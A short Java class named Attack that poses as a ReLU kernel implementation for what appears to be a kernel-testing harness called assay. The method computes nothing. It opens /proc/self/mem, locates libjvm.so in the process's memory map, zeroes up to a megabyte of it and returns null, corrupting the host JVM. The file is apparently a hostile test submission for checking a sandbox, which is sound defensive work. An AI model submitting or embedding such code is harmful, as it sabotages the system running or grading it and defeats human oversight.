import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        try (RandomAccessFile memory = new RandomAccessFile("/proc/self/mem", "rw")) {
            for (String line : Files.readAllLines(Path.of("/proc/self/maps"))) {
                if (!line.contains("libjvm.so")) continue;
                String[] range = line.split(" ")[0].split("-");
                memory.seek(Long.parseLong(range[0], 16));
                memory.write(new byte[(int) Math.min(1 << 20, Long.parseLong(range[1], 16) - Long.parseLong(range[0], 16))]);
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return null;
    }
}
